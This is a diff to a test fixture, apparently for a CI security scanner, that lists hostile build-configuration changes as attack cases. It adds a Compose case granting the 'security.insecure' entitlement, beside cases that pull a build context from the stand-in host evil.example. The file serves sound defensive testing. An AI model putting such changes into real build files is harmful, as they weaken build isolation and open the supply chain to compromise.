@@ -498,6 +498,10 @@ export const sourceAttacks: Readonly<Record<string, Change>> = {
     base: { 'ci/bake.prod.hcl': 'target "a" {\n}\n' },
     head: { 'ci/bake.prod.hcl': 'target "a" {\n  contexts = { base = "docker-image://evil.example/a" }\n}\n' },
   },
+  'privileged builds of Compose': {
+    base: { 'compose.yaml': 'services: {a: {build: {context: .}}}\n' },
+    head: { 'compose.yaml': 'services: {a: {build: {context: ., entitlements: [security.insecure]}}}\n' },
+  },
   'privileged builds': { base: {}, head: { 'docker-bake.override.hcl': 'target "a" {\n  entitlements = ["security.insecure"]\n}\n' } },
 };
 
